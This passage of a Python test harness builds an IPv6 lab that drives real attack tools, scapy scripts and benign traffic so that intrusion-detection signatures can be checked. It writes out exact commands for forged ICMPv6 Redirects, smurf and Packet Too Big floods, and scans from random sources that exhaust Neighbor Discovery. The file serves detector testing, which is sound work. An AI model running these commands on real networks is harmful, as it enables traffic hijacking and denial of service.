addr = socket.getaddrinfo(sys.argv[1], None, socket.AF_INET6)[0][4]
size, tries = int(sys.argv[2]), int(sys.argv[3])
s.settimeout(1.0)
got = 0
for seq in range(1, tries + 1):
    s.sendto(bytes([128, 0, 0, 0, 0x12, 0x34, 0, seq]) + bytes(size - 8), addr)
    try:
        while True:
            data, _ = s.recvfrom(65536)
            if data[0] == 129 and data[4:6] == bytes([0x12, 0x34]):
                got += 1
                break
    except (TimeoutError, socket.timeout):
        pass
print(f"{got}/{tries} answered")
sys.exit(0 if got else 1)
"""


def start_first_hop(lab: Lab, *, wan: bool = False) -> None:
    """``start_lan``; the hosts ping around (bindings, flows), a1 talks from A1_GLOBAL."""
    start_lan(lab, wan=wan)
    _must_ping(lab, HOST_PINGS)
    lab.add_address("a1", A1_GLOBAL)  # a1 runs no DAD: usable at once
    time.sleep(0.2)
    _must_ping(lab, [("a1", "2001:db8:1::1"), ("a1", H1_GLOBAL)])


@scenario(
    expect=["ipv6.redirect_spoof"],
    sids=[1001001, 1001002, 1001003, 1001004, 1001005, 1001006, 1001007, 1001009],
    evidence=[
        Evidence(
            "Redirect from fe80::1 sent with r1's MAC by a1 (redir6)",
            frames(R1.mac, ICMP_REDIRECT, src_ips=[R1.link_local]),
        ),
        Evidence("Redirects sent from a1's MAC (rd6)", frames(A1.mac, ICMP_REDIRECT), 5),
        Evidence(
            "Redirects from distinct link-local sources (rd6 -F)",
            frames(FOREIGN, ICMP_REDIRECT, src_net="fe80::/64"),
            12,
            distinct=source,
        ),
    ],
    tools=["atk6-redir6", "rd6"],
)
def redir6(lab: Lab) -> None:
    """a1 redirects h1's traffic for a remote address, then forges Redirects of every kind.

    ``atk6-redir6 eth0 <h1> 2001:db8:ff::a fe80::1 fe80::2:2`` (it spoofs fe80::1 with
    r1's own MAC and names a1's MAC as the link-layer address of h2's fe80::2:2). Then
    ``rd6 -i eth0 -d <h1> -D <h1 MAC> -r 2001:db8:ff::a`` with: ``-s fe80::2`` (r2's
    address, from a1's MAC), ``-s fe80::bad -A 64`` (no router, hop limit 64),
    ``-s fe80::1 -t 2001:db8:1::a1`` (a global target that is not the destination),
    ``-s fe80::1 -r 2001:db8:ff::99`` (quoting h1 -> 2001:db8:ff::99, never sent) and
    ``-s 2001:db8:ff::1`` (an off-link source from a1's MAC); finally
    ``rd6 -s fe80::/64 -F 16`` (16 random link-local sources: a burst).
    """
    start_first_hop(lab)
    h1 = ["-i", "eth0", "-d", H1_GLOBAL, "-D", H1.mac]
    lab.run_tool(
        "a1", ["atk6-redir6", "eth0", H1_GLOBAL, REMOTE_A, R1.link_local, H2.link_local], 3
    )
    for extra in (
        ["-s", R2.link_local, "-t", A1.link_local, "-r", REMOTE_A],
        ["-s", "fe80::bad", "-A", "64", "-t", A1.link_local, "-r", REMOTE_A],
        ["-s", R1.link_local, "-t", A1_GLOBAL, "-r", REMOTE_A],
        ["-s", R1.link_local, "-t", A1.link_local, "-r", "2001:db8:ff::99"],
        ["-s", "2001:db8:ff::1", "-t", A1.link_local, "-r", REMOTE_A],
        ["-s", "fe80::/64", "-F", "16", "-t", A1.link_local, "-r", REMOTE_A],
    ):
        lab.run_tool("a1", ["rd6", *h1, *extra], 3)
    time.sleep(0.5)


@scenario(
    expect=["ipv6.smurf"],
    sids=[1001021, 1001022, 1001024, 1001029],
    evidence=[
        Evidence(
            "echo requests to ff02::1 from h1's address, not sent by h1",
            frames(FOREIGN, ICMP_ECHO, src_ips=[H1_GLOBAL], dst_net="ff02::1/128"),
            500,
        ),
        Evidence(
            "echo replies to h1",
            frames(H2.mac, ICMP_ECHO_REPLY, dst_net=f"{H1_GLOBAL}/128"),
            1000,
        ),
    ],
    tools=["atk6-smurf6"],
)
def smurf6(lab: Lab) -> None:
    """a1 smurfs h1: echo requests to ff02::1 with h1's address as the source.

    ``atk6-smurf6 -i 1000 eth0 <h1>`` for 3 s (one request per millisecond; h2 and r1
    answer each to h1: the reply storm), then ``atk6-smurf6 -i 20000 eth0 2001:db8:1::1:N``
    for 0.3 s each, N = 0 to 11 (12 more forged sources: a burst).
    """
    start_first_hop(lab)
    lab.run_tool("a1", ["atk6-smurf6", "-i", "1000", "eth0", H1_GLOBAL], 3)
    for n in range(12):
        lab.run_tool("a1", ["atk6-smurf6", "-i", "20000", "eth0", f"2001:db8:1::1:{n:x}"], 0.3)
    time.sleep(0.5)


@scenario(
    expect=["ipv6.smurf"],
    sids=[1001023],
    evidence=[
        Evidence(
            "echo requests from ff02::1 to h2",
            frames(FOREIGN, ICMP_ECHO, src_ips=["ff02::1"]),
            10,
        )
    ],
    tools=["atk6-rsmurf6"],
)
def rsmurf6(lab: Lab) -> None:
    """a1 makes h2 answer the whole link: echo requests to h2 from the source ff02::1.

    ``atk6-rsmurf6 eth0 <h2>`` for 1 s.
    """
    start_first_hop(lab)
    lab.run_tool("a1", ["atk6-rsmurf6", "eth0", H2_GLOBAL], 1)
    time.sleep(0.3)


@scenario(
    expect=["ipv6.ptb_attack"],
    sids=[1001031, 1001032, 1001033, 1001034, 1001039],
    evidence=[
        Evidence(
            "Packet Too Big from 2001:db8:ff::a sent by a1, MTU below 1280",
            frames(A1.mac, ICMP_PTB, src_ips=[REMOTE_A]),
        ),
        Evidence(
            "Packet Too Big to h2 from distinct sources (flood)",
            frames(A1.mac, ICMP_PTB, src_net="2001:db8:ff::/64"),
            PTB_FLOOD,
            distinct=source,
        ),
    ],
    tools=["atk6-toobig6", "icmp6"],
)
def toobig6(lab: Lab) -> None:
    """a1 shrinks h1's path MTU to 1000 claiming a remote router's address, then floods h2.

    ``atk6-toobig6 eth0 <h1> 2001:db8:ff::a 1000`` (a spoofed ping from 2001:db8:ff::a,
    then a Packet Too Big from that off-link address, sent from a1's MAC, MTU below
    1280); ``atk6-toobig6 -u eth0 <h2> 2001:db8:ff::b 1300`` (no ping: the quoted packet
    h2 -> 2001:db8:ff::b was never sent); then ``icmp6 -i eth0 -E -m 1300 -d <h2> -D
    <h2 MAC> -s 2001:db8:ff::N`` for N = 1 to 150, in about 2 s: a flood to one target
    from 150 forged sources (a burst).
    """
    start_first_hop(lab)
    lab.run_tool("a1", ["atk6-toobig6", "eth0", H1_GLOBAL, REMOTE_A, "1000"], 3)
    lab.run_tool("a1", ["atk6-toobig6", "-u", "eth0", H2_GLOBAL, "2001:db8:ff::b", "1300"], 3)
    flood = (
        f"for n in $(seq 1 {PTB_FLOOD}); do icmp6 -i eth0 -E -m 1300 -d {H2_GLOBAL} "
        f"-D {H2.mac} -s 2001:db8:ff::$(printf %x $n) >/dev/null; done"
    )
    lab.run_tool("a1", ["sh", "-c", flood], 8)
    time.sleep(0.3)


@scenario(
    expect=(),
    evidence=[
        Evidence("Packet Too Big from r1 to h1", frames(R1.mac, ICMP_PTB)),
        Evidence(
            "large echo request from h1 to a2",
            frames(H1.mac, ICMP_ECHO, dst_net=f"{A2.addresses[0]}/128"),
        ),
    ],
    outside=expected(
        (),
        [Evidence("echo replies from a2, in fragments", frames(A2.mac, fragment=True))],
    ),
    span=_SILENT,
)
def benign_pmtu(lab: Lab) -> None:
    """Path-MTU discovery: h1 pings a2 with 1452-byte packets over r1's WAN leg of MTU 1400.

    ``ip link set eth1 mtu 1400`` in r1 and ``ip link set eth0 mtu 1400`` in a2, then h1
    sends three 1452-byte echo requests to a2 from a raw socket: r1 answers the first
    with a Packet Too Big (MTU 1400) quoting it, h1's kernel fragments the next ones,
    and a2 answers in fragments.
    """
    start_lan(lab, wan=True)
    _must_ping(lab, [("h1", "2001:db8:1::1")])
    lab.sh("r1", "ip", "link", "set", "eth1", "mtu", "1400")
    lab.sh("a2", "ip", "link", "set", "eth0", "mtu", "1400")
    proc = lab.sh("h1", sys.executable, "-c", _ECHO_BIG, A2.addresses[0], "1452", "3", check=False)
    if proc.returncode != 0:
        raise RuntimeError(f"large pings to a2 failed: {proc.stdout.strip()} {proc.stderr.strip()}")
    time.sleep(0.5)


@scenario(
    expect=(),
    evidence=[
        Evidence(
            "echo requests from h1's link-local to ff02::1",
            frames(H1.mac, ICMP_ECHO, src_ips=[H1.link_local], dst_net="ff02::1/128"),
            5,
        ),
        Evidence("echo replies to h1's link-local", frames(H2.mac, ICMP_ECHO_REPLY), 5),
    ],
)
def benign_ping_allnodes(lab: Lab) -> None:
    """h1 pings ff02::1 from its own link-local address five times; every node answers.

    ``python -c _PING ff02::1%eth0 1`` in h1, five times: the kernel picks fe80::2:1,
    and h2, r1 and a1 reply to it.
    """
    start_lan(lab)
    _must_ping(lab, HOST_PINGS)
    for _ in range(5):
        lab.sh("h1", sys.executable, "-c", _PING, "ff02::1%eth0", "1", check=False)
    time.sleep(0.5)


# -- target-generation scans (issue 15) -------------------------------------------------
# a2 probes target sets drawn from nibble clusters, as 6Gen, 6Tree and Entropy/IP generate
# them from seeds, over 40 /64s of the lab's site 2001:db8:1::/48 (8 per /64: no /64 near
# the sweep's medium tier, and fewer /64s than its wide scan needs). r1 routes the /48
# nowhere but its LAN /64 (no route: rate-limited errors from r1's WAN address, which is
# not in the /48), so the scans go unanswered; the benign case gives h2 every target.

TGA_SITE: Final = "2001:db8:1::/48"
TGA_SUBNETS: Final = 40
TGA_SCAN_FIRST: Final = 0x100  # 2001:db8:1:100::/64 .. :127::/64: no route in r1
TGA_ANSWERED_FIRST: Final = 0x40  # 2001:db8:1:40::/64 .. :67::/64: routed to h2
TGA_ANSWERED_ROUTE: Final = "2001:db8:1:40::/58"


def tga_targets(
    first_subnet: int, seed: int, cluster: str = "1a2b:3c4d:{x:x}00:{y:x}0"
) -> list[str]:
    """Eight targets in each of ``TGA_SUBNETS`` /64s from ``first_subnet`` on, drawn (seeded)
    from one nibble cluster: the identifier ``cluster`` with nibbles x (0-7) and y (0-15)
    varying."""
    rng = random.Random(seed)
    site = ipaddress.IPv6Network(TGA_SITE)[0]
    out = []
    for n in range(first_subnet, first_subnet + TGA_SUBNETS):
        for x, y in sorted(rng.sample([(x, y) for x in range(8) for y in range(16)], 8)):
            iid = int(ipaddress.IPv6Address("::" + cluster.format(x=x, y=y)))
            out.append(str(site + (n << 64) + iid))
    return out


def tga_evidence(first_subnet: int) -> Evidence:
    low = ipaddress.IPv6Network(TGA_SITE)[first_subnet << 64]
    return Evidence(
        "distinct /64s of the site's /48 probed from a2",
        lambda f: (
            frames(A2.mac, dst_net=TGA_SITE)(f)
            and f.dst_ip != ""
            and ipaddress.IPv6Address(f.dst_ip) >= low
        ),
        32,
        distinct=destination_64,
    )


def unreachable_site(lab: Lab) -> None:
    """r1 answers for the whole /48 beyond its LAN /64 with no-route errors, never a loop."""
    _ip("-n", lab.nodes["r1"], "-6", "route", "add", "unreachable", TGA_SITE)


# Sends a TCP SYN to port 443 of every address listed in a file, one every 20 ms, from
# a2 to r1's WAN MAC, with scapy (random source ports, as zmap6 and 6Scan do).
_SCAPY_TGA: Final = """
import sys
from scapy.all import Ether, IPv6, TCP, sendp
src, router_mac, listing = sys.argv[1], sys.argv[2], sys.argv[3]
targets = open(listing, encoding="ascii").read().split()
frames = [
    Ether(dst=router_mac) / IPv6(src=src, dst=t, hlim=64)
    / TCP(sport=40000 + i % 20000, dport=443, flags="S")
    for i, t in enumerate(targets)
]
sendp(frames, iface="eth0", inter=0.02, verbose=False)
print(f"sent {len(frames)} SYNs")
"""


@scenario(
    expect=(),
    evidence=[],
    tools=["nmap"],
    outside=expected(["ipv6.tga_scan"], [tga_evidence(TGA_SCAN_FIRST)], [1001501]),
)
def nmap_tga_clusters(lab: Lab) -> None:
    """nmap pings 320 targets of one nibble cluster over 40 /64s of the site's /48.

    ``nmap -6 -n -sn --max-retries 0 --min-rate 50 --max-rate 50 -PE -iL targets.txt``
    (~7 s, under ``timeout`` 12 s), targets.txt listing 2001:db8:1:S:1a2b:3c4d:X00:Y0,
    eight per /64 for S from 0x100 to 0x127: a target-generation scan (clustered
    nibbles) that no /64 sweep and no wide scan counts. Nothing reaches the LAN.
    """
    start_routed(lab)
    unreachable_site(lab)
    targets = lab.workdir / "tga-targets.txt"
    targets.write_text("\n".join(tga_targets(TGA_SCAN_FIRST, 1515)) + "\n", encoding="ascii")
    remote_scan([*NMAP, *NMAP_RATE, "-PE", "-iL", str(targets)], 12, lab)


@scenario(
    expect=(),
    evidence=[],
    outside=expected(["ipv6.tga_scan"], [tga_evidence(TGA_SCAN_FIRST)], [1001501]),
)
def scapy_tga_clusters(lab: Lab) -> None:
    """A scapy scanner sends TCP SYNs to port 443 of 320 targets drawn from a second
    nibble cluster (2001:db8:1:S:0:5e00:X:Y0) over the same 40 /64s, 50 per second.

    ``python -c _SCAPY_TGA 2001:db8:ff::a <r1's WAN MAC> targets.txt`` in a2 (~7 s, under
    ``timeout`` 15 s): a target-generation scan over TCP, no reply but r1's errors.
    """
    start_routed(lab)
    unreachable_site(lab)
    targets = lab.workdir / "tga-targets.txt"
    listing = tga_targets(TGA_SCAN_FIRST, 1516, "0:5e00:{x:x}:{y:x}0")
    targets.write_text("\n".join(listing) + "\n", encoding="ascii")
    argv = [sys.executable, "-c", _SCAPY_TGA, A2.addresses[0], R1_WAN.mac, str(targets)]
    remote_scan(argv, 15, lab)


@scenario(
    expect=(),
    evidence=[
        Evidence(
            "echo replies from the /48's answered /64s to a2, on the LAN",
            frames(H2.mac, 129, src_net=TGA_ANSWERED_ROUTE),
            250,
        )
    ],
    tools=["nmap"],
    outside=expected(
        [],
        [
            Evidence(
                "echo replies from the /48's answered /64s to a2",
                frames(R1_WAN.mac, 129, src_net=TGA_ANSWERED_ROUTE),
                250,
            )
        ],
    ),
)
def nmap_tga_answered(lab: Lab) -> None:
    """Benign: nmap pings 320 addresses over 40 /64s of the /48 that all exist, as a CDN
    client talks to many servers of one provider: h2 holds every one (on lo, r1 routing
    2001:db8:1:40::/58 to it) and answers, so no no-reply ratio lets it alert.

    ``nmap -6 -n -sn --max-retries 0 --min-rate 50 --max-rate 50 -PE -iL targets.txt``
    (~7 s, under ``timeout`` 12 s).
    """
    start_routed(lab)
    listing = tga_targets(TGA_ANSWERED_FIRST, 1517)
    batch = lab.workdir / "tga-addresses.batch"
    batch.write_text("".join(f"address add {a}/128 dev lo\n" for a in listing), encoding="ascii")
    _ip("-n", lab.nodes["h2"], "-6", "-batch", str(batch))
    _ip("-n", lab.nodes["r1"], "-6", "route", "add", TGA_ANSWERED_ROUTE, "via", H2_GLOBAL)
    targets = lab.workdir / "tga-targets.txt"
    targets.write_text("\n".join(listing) + "\n", encoding="ascii")
    remote_scan([*NMAP, *NMAP_RATE, "-PE", "-iL", str(targets)], 12, lab)


# -- fan-in sweeps (issue 15) ------------------------------------------------------------
# Scans of the LAN's /64 whose every probe comes from a different source /64, so no
# per-source window counts them: only the per-destination fan-in window does. a2 sends
# from random addresses of FANIN_NET (2001:db8:8000::/33, documentation space and no
# lab prefix in it), which r1 routes back to a2, so answers and errors return there.

FANIN_NET: Final = "2001:db8:8000::/33"
# Run in a2 as `python -c _SCAPY_FANIN COUNT TARGETS FIRST ROUTER_MAC SEED STRIDE`: COUNT
# ICMPv6 echo requests, each from a new random address (and /64) of FANIN_NET, to
# TARGETS addresses FIRST, FIRST + STRIDE, ... in turn; one socket, sent as fast as
# scapy goes.
_SCAPY_FANIN: Final = """
import ipaddress, random, sys
from scapy.all import Ether, ICMPv6EchoRequest, IPv6, conf, sendp
count, targets, first, router, seed, stride = sys.argv[1:7]
rng = random.Random(int(seed))
net = int(ipaddress.IPv6Address("2001:db8:8000::"))
first = ipaddress.IPv6Address(first)
conf.verb = 0
packets = [
    Ether(dst=router)
    / IPv6(src=str(ipaddress.IPv6Address(net | rng.getrandbits(95))),
           dst=str(first + (n % int(targets)) * int(stride)), hlim=57)
    / ICMPv6EchoRequest(id=0x15, seq=n & 0xFFFF)
    for n in range(int(count))
]
sendp(packets, iface="eth0")
print(f"sent {len(packets)}", flush=True)
"""
FANIN_THRASH_PROBES: Final = 17000  # 8192 evictions past the tables' 8192: thrashing
FANIN_TARGETS: Final = 150  # distinct LAN addresses, cycled: past medium_targets (100)


def start_fanin(lab: Lab) -> None:
    """``start_lan`` with the WAN, r1 routing ``FANIN_NET`` to a2 and its FAILED and
    NOARP neighbours swept. No egress limit on a2: scapy sends a bounded list."""
    start_lan(lab, wan=True)
    _ip("-n", lab.nodes["r1"], "-6", "route", "add", FANIN_NET, "via", A2.addresses[0])
    lab.sweep_neighbours("r1")


def scapy_fanin(
    lab: Lab, count: int, targets: int, first: str, seed: int, stride: int = 1
) -> ToolRun:
    argv = [sys.executable, "-c", _SCAPY_FANIN, str(count), str(targets), first, R1_WAN.mac]
    run = lab.run_tool("a2", [*argv, str(seed), str(stride)], 60, NEIGHBOUR_BUDGET)
    time.sleep(SOLICIT_TAIL)
    return run


def _fanin_sources(minimum: int) -> Evidence:
    return Evidence(
        "distinct random sources of FANIN_NET probing the LAN",
        frames(A2.mac, ICMP_ECHO, src_net=FANIN_NET, dst_net=LAN_PREFIX),
        minimum,
        distinct=source,
    )


@scenario(
    expect=["ipv6.ndp_exhaustion"],
    sids=[1000201],
    evidence=[Evidence("distinct targets r1 solicited", frames(R1.mac, ICMP_NS), 100, nd_target)],
    outside=expected(
        ["ipv6.sweep"],
        [
            Evidence(
                "distinct LAN addresses probed from a2",
                frames(A2.mac, dst_net=LAN_PREFIX),
                FANIN_TARGETS,
                distinct=destination,
            ),
            _fanin_sources(16800),
        ],
        [1000404, 1000405],
    ),
    span=expected(
        ["ipv6.sweep", "ipv6.ndp_exhaustion"],
        [_fanin_sources(16800)],
        [1000404, 1000405, 1000201],
    ),
)
def scapy_fanin_random_sources(lab: Lab) -> None:
    """A scapy scanner sending each probe from a new random address of 2001:db8:8000::/33.

    ``python -c _SCAPY_FANIN 17000 150 2001:db8:1::f000 ...`` in a2: 17000 echo requests,
    each from its own source /64, to 2001:db8:1::f000 .. ::f095 in turn (a few seconds).
    Outside: one fan-in sweep of 2001:db8:1::/64, and the source and pair tables (8192)
    evicting 8192 within one window (state_thrashing, once each); no per-source sweep.
    Inside: r1's NS storm.
    """
    start_fanin(lab)
    scapy_fanin(lab, FANIN_THRASH_PROBES, FANIN_TARGETS, "2001:db8:1::f000", 15)


@lan_scan(
    ["atk6-alive6"],
    probed=140,
    solicited=100,
    sid=1000404,
    outside_evidence=[_fanin_sources(100)],
)
def alive6_fanin_many_sources(lab: Lab) -> None:
    """alive6 from eight source /64s in turn, each a random source per probe, 20 targets
    each: 160 targets of 2001:db8:1::/64, no source /64 near medium_targets.

    ``atk6-alive6 -n 1 -W 1 -I 2001:db8:800k::/64 eth0 2001:db8:1::k00-k13`` for k = 0
    to 7 (about 1 s each). alive6's -I randomises only the bits past the prefix it is
    given and keeps one /64 per run whatever the prefix length, hence eight runs: a
    scan distributed over source /64s, which only the fan-in window of the LAN's /64
    adds up.
    """
    start_fanin(lab)
    lab.limit_egress("a2", SCAN_TBF)
    for k in range(8):
        argv = [*ALIVE6, "-I", f"2001:db8:800{k}::/64", "eth0", f"2001:db8:1::{k}00-{k}13"]
        lab.run_tool("a2", argv, 4, NEIGHBOUR_BUDGET)
    time.sleep(SOLICIT_TAIL)


@lan_scan(
    ["scan6"],
    probed=140,
    solicited=100,
    sid=1000404,
    outside_evidence=[_fanin_sources(8)],
)
def scan6_fanin_many_sources(lab: Lab) -> None:
    """ipv6toolkit's scan6 from eight source /64s in turn, 20 targets each: 160 targets
    of 2001:db8:1::/64, no source /64 near medium_targets.

    ``scan6 -i eth0 -s 2001:db8:800k::5ca:k -d 2001:db8:1::k00-k13 --rate-limit
    100pps`` for k = 0 to 7. scan6 takes one source address per run: given a prefix
    (``-s 2001:db8:800k::/64``, with or without ``-f``) it stops with "Cannot obtain a
    global address to scan remote network", so each run names its address. Its
    Neighbor Discovery of r1 needs the answer back, which r1's route for FANIN_NET
    through a2 gives.
    """
    start_fanin(lab)
    lab.limit_egress("a2", SCAN_TBF)
    for k in range(8):
        argv = ["scan6", "-i", "eth0", "-s", f"2001:db8:800{k}::5ca:{k}"]
        lab.run_tool(
            "a2", [*argv, "-d", f"2001:db8:1::{k}00-{k}13", *SCAN6_RATE], 4, NEIGHBOUR_BUDGET
        )
    time.sleep(SOLICIT_TAIL)


# Benign fan-in: many source /64s, every probe answered.

BENIGN_FANIN_SOURCES: Final = 300
BUSY_ADDRESSES: Final = 120  # h2's extra addresses: a hosting /64 answering everyone


@scenario(
    expect=(),
    evidence=[
        Evidence(
            "distinct remote clients h2 answered",
            frames(H2.mac, 129, dst_net=FANIN_NET),
            BENIGN_FANIN_SOURCES - 20,
            distinct=destination,
        )
    ],
    outside=expected((), [_fanin_sources(BENIGN_FANIN_SOURCES - 20)]),
    span=_SILENT,
)
def benign_fanin_busy_server(lab: Lab) -> None:
    """A busy server answering many clients: 300 pings to h2's address, each from a new
    random /64 of 2001:db8:8000::/33, every one answered. One target: no fan-in."""
    start_fanin(lab)
    scapy_fanin(lab, BENIGN_FANIN_SOURCES, 1, H2_GLOBAL, 16)


@scenario(
    expect=(),
    evidence=[
        Evidence(
            "distinct addresses of h2 that answered",
            frames(H2.mac, 129, dst_net=FANIN_NET),
            BUSY_ADDRESSES - 5,
            distinct=source,
        )
    ],
    outside=expected((), [_fanin_sources(BENIGN_FANIN_SOURCES - 20)]),
    span=_SILENT,
)
def benign_fanin_cdn(lab: Lab) -> None:
    """CDN-like traffic: h2 holds 2001:db8:1::c000 to ::c077 (a hosting /64) and clients
    from 300 random /64s of 2001:db8:8000::/33 ping them in turn; every address
    answers. Many sources, 120 targets, no reply missing: the no-reply gate holds."""
    start_fanin(lab)
    # Only the bits above the low 24 differ: one solicited-node group, one MLD join.
    batch = "".join(f"address add {_busy(n)}/64 dev eth0 nodad\n" for n in range(BUSY_ADDRESSES))
    subprocess.run(
        ["ip", "-n", lab.nodes["h2"], "-6", "-batch", "-"],
        input=batch,
        text=True,
        check=True,
        capture_output=True,
        timeout=30,
    )
    scapy_fanin(lab, BENIGN_FANIN_SOURCES, BUSY_ADDRESSES, _busy(0), 17, 1 << 24)


def _busy(n: int) -> str:
    """h2's ``n``-th hosting address: 2001:db8:1::c000 with ``n`` above the low 24 bits."""
    return str(ipaddress.IPv6Address("2001:db8:1::c000") + (n << 24))


# -- low-and-slow (issue 15) ------------------------------------------------------------
#
# A real scanner at its normal rate, its capture then rewritten to a slow pace rather
# than waited for: the fast original is ipv6.sweep's, the slow one ipv6.slow_scan's.

SLOW_EVERY: Final = 5.0  # seconds between probes after the rewrite: 60 per sweep window


def slow_down(src: Path, dst: Path, prober_mac: str, every: float) -> int:
    """Rewrite the timestamps of the classic pcap ``src`` into ``dst``: the frames
    ``prober_mac`` sends (Neighbor Discovery aside) become one probe every ``every``
    seconds from the first one; every other frame keeps its delay after the last probe
    before it, capped at half the pace (a reply stays just after its probe). Frames
    before the first probe keep their times. Returns the number of probes paced.

    A scan recorded at its tool's normal rate thus becomes the same packets at one probe
    per ``every`` seconds (``every`` >= 1: one probe per second or slower), in order.
    """
    data = src.read_bytes()
    if data[:4] != b"\xd4\xc3\xb2\xa1":  # tcpdump -w on a little-endian host
        raise ValueError(f"{src}: not a little-endian microsecond pcap")
    mac = bytes.fromhex(prober_mac.replace(":", ""))
    out = [data[:24]]
    off, probes = 24, 0
    last_old = last_new = 0
    while off + 16 <= len(data):
        sec, usec, incl, orig = struct.unpack_from("<IIII", data, off)
        frame = data[off + 16 : off + 16 + incl]
        t = sec * 1_000_000 + usec
        nd = len(frame) > 54 and frame[20] == NH_ICMPV6 and 133 <= frame[54] <= 137
        if frame[6:12] == mac and frame[12:14] == b"\x86\xdd" and not nd:
            new = t if probes == 0 else last_new + round(every * 1_000_000)
            last_old, last_new = t, new
            probes += 1
        elif probes:
            new = last_new + min(t - last_old, round(every * 500_000))
        else:
            new = t
        out.append(struct.pack("<IIII", new // 1_000_000, new % 1_000_000, incl, orig) + frame)
        off += 16 + incl
    dst.write_bytes(b"".join(out))
    return probes


@scenario(
    expect=["ipv6.slow_scan"],
    sids=[1001401],
    tools=["scan6"],
    evidence=[
        Evidence(
            "distinct LAN addresses probed from a2, one every 5 s",
            frames(A2.mac, dst_net=LAN_PREFIX),
            300,
            distinct=destination,
        )
    ],
    outside=expected(
        ["ipv6.sweep"],
        [
            Evidence(
                "distinct LAN addresses probed from a2",
                frames(A2.mac, dst_net=LAN_PREFIX),
                300,
                distinct=destination,
            )
        ],
        [1000401],
    ),
)
def scan6_slow(lab: Lab) -> None:
    """scan6's low-byte scan at its normal rate, and the same packets one every 5 s.

    ``scan6 -i eth0 -d 2001:db8:1::/64 --tgt-low-byte --rate-limit 100pps`` in a2 for 9 s
    (~430 probes at ~50/s). Outside (the WAN capture, as recorded): ipv6.sweep's
    host_sweep and, by the not-a-sweep rule, no ipv6.slow_scan
    (``tests/test_attack_tools.py`` checks both). The "inside" file of this scenario is
    not the LAN: it is the WAN capture rewritten by ``slow_down`` to one probe every
    ``SLOW_EVERY`` seconds (about 36 minutes of packet time, 60 probes per sweep window,
    below its 100), which raises ipv6.slow_scan's slow_scan and no ipv6.sweep.
    """
    start_routed(lab)
    remote_scan([*SCAN6, "--tgt-low-byte", *SCAN6_RATE], 9, lab)
    lab.stop_capture()
    probes = slow_down(lab.pcaps[OUTSIDE], lab.pcaps[INSIDE], A2.mac, SLOW_EVERY)
    if probes < 300:
        raise RuntimeError(f"scan6 sent {probes} probes, want at least 300")


# -- DNS (issue 15) ------------------------------------------------------------------
# A real authoritative server (nsd in h2, on the RDNSS address 2001:db8:1::53) for the
# ip6.arpa zone of 2001:db8::/32 (tests/netlab_policy.yaml's dns: key), and real caching
# resolvers: unbound processes in h1 and a1, each with its own documentation source
# address, that ask only h2 (a stub for the zone and for the root, so nothing ever leaves
# the lab). Each resolver is asked once per name, so each name reaches the authoritative
# once per resolver: what the authoritative of a scanner's zone sees when the scanner's
# targets reverse-resolve it (DNS backscatter). Every daemon is a lab process: killed,
# and its namespace deleted, when the lab closes, also on failure.

DNS_AUTH: Final = RDNSS
DNS_ZONE: Final = "8.b.d.0.1.0.0.2.ip6.arpa"  # 2001:db8::/32
DNS_SCANNER: Final = "2001:db8:ff::a"  # a2's WAN address: outside the monitored /64, no PTR
DNS_MAIL: Final = "2001:db8:1::25"
DNS_HOSTS: Final = {
    DNS_MAIL: "mail.example.com.",
    "2001:db8:1::53": "ns1.example.com.",
    "2001:db8:1::1:10": "web.example.com.",
}
DNS_RESOLVERS: Final = 12  # past ipv6.dns_backscatter's min_queriers (10)
DNS_WALKER: Final = "2001:db8:1::a1"  # a1's static address for dnsrevenum6 and dig


def start_nsd(lab: Lab, hosts: dict[str, str] | None = None, xfr_to: str = "") -> None:
    """nsd in h2 on 2001:db8:1::53, in the foreground, serving ``DNS_ZONE`` with the PTRs
    of ``DNS_HOSTS`` and ``hosts``; zone transfers only to ``xfr_to`` (none without it)."""
    lab.add_address("h2", DNS_AUTH)
    lab.wait_address("h2", DNS_AUTH)
    wd = lab.workdir
    suffix = "." + DNS_ZONE
    records = "".join(
        f"{ipaddress.IPv6Address(a).reverse_pointer[: -len(suffix)]} PTR {name}\n"
        for a, name in {**DNS_HOSTS, **(hosts or {})}.items()
    )
    xfr = f"  provide-xfr: {xfr_to} NOKEY\n" if xfr_to else ""
    (wd / "rev.zone").write_text(
        f"$ORIGIN {DNS_ZONE}.\n$TTL 3600\n"
        "@ SOA ns1.example.com. hostmaster.example.com. 1 7200 3600 1209600 3600\n"
        "@ NS ns1.example.com.\n" + records
    )
    (wd / "nsd.conf").write_text(
        f'server:\n  ip-address: {DNS_AUTH}\n  port: 53\n  do-ip4: no\n  username: ""\n'
        f'  chroot: ""\n  database: ""\n  server-count: 1\n  verbosity: 1\n'
        f'  zonesdir: "{wd}"\n  pidfile: "{wd}/nsd.pid"\n  xfrdfile: "{wd}/xfrd.state"\n'
        f'  xfrdir: "{wd}"\n  zonelistfile: "{wd}/zone.list"\n  logfile: "{wd}/nsd-h2.out"\n'
        "remote-control:\n  control-enable: no\n"
        f'zone:\n  name: "{DNS_ZONE}"\n  zonefile: "{wd}/rev.zone"\n' + xfr
    )
    lab.spawn("h2", ["nsd", "-d", "-c", str(wd / "nsd.conf")], "nsd-h2.log")
    _wait_dns(lab, "h2", DNS_AUTH, 53, f"1.{DNS_ZONE}")


def _wait_dns(lab: Lab, node: str, server: str, port: int, name: str) -> None:
    """Wait (up to 10 s) until ``server`` answers a query from ``node``."""
    deadline = time.monotonic() + 10
    while True:
        got = lab.sh(
            node,
            "dig",
            f"@{server}",
            "-p",
            str(port),
            name,
            "SOA",
            "+time=1",
            "+tries=1",
            check=False,
        )
        if "status:" in got.stdout:
            return
        if time.monotonic() > deadline:
            raise RuntimeError(f"{node}: no DNS answer from {server}@{port}: {got.stdout[-300:]}")
        time.sleep(0.2)


def start_resolvers(
    lab: Lab, count: int = DNS_RESOLVERS, minimise: bool = False
) -> list[tuple[str, int]]:
    """``count`` unbound processes, alternately in h1 and a1, each listening on ::1 at its
    own port and querying from its own address 2001:db8:1::5300+n; (node, port) each.
    ``minimise`` turns on QNAME minimisation (RFC 9156), relaxed (not strict)."""
    out = []
    for n in range(count):
        node = ("h1", "a1")[n % 2]
        addr, port = f"2001:db8:1::{0x5300 + n:x}", 5300 + n
        _ip("-n", lab.nodes[node], "addr", "add", f"{addr}/64", "dev", "eth0", "nodad")
        conf = lab.workdir / f"unbound-{n}.conf"
        stubs = "".join(
            f'stub-zone:\n  name: "{zone}"\n  stub-addr: {DNS_AUTH}\n' for zone in (DNS_ZONE, ".")
        )
        conf.write_text(
            f"server:\n  interface: ::1@{port}\n  outgoing-interface: {addr}\n"
            f'  do-ip4: no\n  do-ip6: yes\n  username: ""\n  chroot: ""\n'
